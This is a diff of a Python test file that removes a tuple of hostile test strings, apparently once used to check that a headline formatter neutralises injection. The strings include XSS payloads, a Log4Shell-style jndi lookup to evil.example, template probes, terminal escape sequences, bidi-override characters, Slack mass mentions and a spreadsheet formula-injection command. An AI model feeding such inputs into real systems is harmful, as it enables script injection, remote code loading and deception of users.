@@ -12,23 +12,6 @@ from timeline.headlines import headline
 AT = datetime(2026, 8, 12, 10, 10, tzinfo=UTC)
 TEN_MINUTES = timedelta(minutes=10)
 
-HOSTILE = (
-    "<!channel> <!here> <@U012AB3CD> <#C024BE7LR> <!subteam^S0615G0KT>",
-    "<https://evil.example/steal|Evidence>",
-    "&lt;!channel&gt; &amp; &#60;",
-    "*bold* _it_ ~no~ `code` ```block``` > quote",
-    "[click](https://evil.example) ![x](https://evil.example/x.png)",
-    "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "{{7*7}} {% include 'secrets' %} ${jndi:ldap://evil.example/a} %(name)s {0.__class__}",
-    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J bell\x07 back\x08",
-    "right\u202eto\u202cleft zero\u200bwidth \u2066isolate\u2069 tag\U000e0041",
-    "line one\nline two\r\n\u2028three\u2029four\x0bfive",
-    "é" * 4000,
-    "👩‍👩‍👧‍👦 العربية עברית 中文",
-    "&" * 5000,
-    "=cmd|' /C calc'!A0",
-)
-
 
 def reference(
     seq: int = 4, at: datetime = AT, url: str = "https://platform.openai.example/docs/pricing.md"
